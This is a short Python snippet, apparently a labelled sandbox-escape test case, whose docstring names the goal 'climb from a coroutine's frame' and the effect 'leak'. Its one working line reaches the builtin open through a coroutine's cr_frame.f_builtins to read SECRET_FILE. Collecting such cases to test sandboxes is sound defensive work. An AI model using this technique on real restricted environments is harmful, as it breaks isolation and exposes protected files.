"""
goal: climb from a coroutine's frame
effect: leak
"""

async def climb():
    return None


coroutine = climb()
print(coroutine.cr_frame.f_builtins["open"](SECRET_FILE).read())
